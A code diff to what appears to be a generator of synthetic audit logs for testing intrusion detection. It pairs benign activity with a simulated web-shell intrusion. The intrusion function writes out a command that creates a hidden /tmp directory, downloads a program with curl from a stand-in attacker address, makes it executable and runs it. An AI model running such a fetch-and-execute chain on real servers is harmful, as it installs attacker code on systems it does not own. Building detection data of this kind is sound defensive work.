@@ -18,16 +18,25 @@ export const ARTIFACTS = {
 export function audit() {
   const log = new AuditWriter({
     startsAt: Date.UTC(2026, 10, 20, 6, 25, 1, 312),
+    host: "web-3",
     serial: 80_412,
     nextPid: 3301,
     names: { 0: "root", 33: "www-data", 1000: "dev" },
   });
+  const php = workerStarts(log);
+  log.later(0.02, 9);
   morningUpgrade(log);
   log.later(3.7, 1_204);
   developerBuilds(log);
   log.later(3.9, 988);
-  intrusion(log);
+  intrusion(log, php);
   return log.text;
+}
+
+/** The web server's PHP begins a new worker, as it does after some hundred requests. */
+function workerStarts(log) {
+  const master = log.running({ pid: 901, ppid: 1, uid: 0, exe: "/usr/sbin/php-fpm8.2" });
+  return master.fork().become({ uid: 33, gid: 33, cwd: "/var/www/html" });
 }
 
 /** Benign twin: an unattended upgrade unpacks a stripped program. */
@@ -154,8 +163,7 @@ function developerBuilds(log) {
 }
 
 /** A request to a PHP page starts a shell, which fetches a program, makes it executable and runs it. */
-function intrusion(log) {
-  const php = log.running({ pid: 934, ppid: 901, uid: 33, exe: "/usr/sbin/php-fpm8.2", cwd: "/var/www/html" });
+function intrusion(log, php) {
   const { path, inode } = ARTIFACTS.agent;
   const script = `mkdir -p /tmp/.cache-x; curl -so ${path} http://203.0.113.7/a; chmod 755 ${path}; ${path} &`;
   const sh = php.fork();
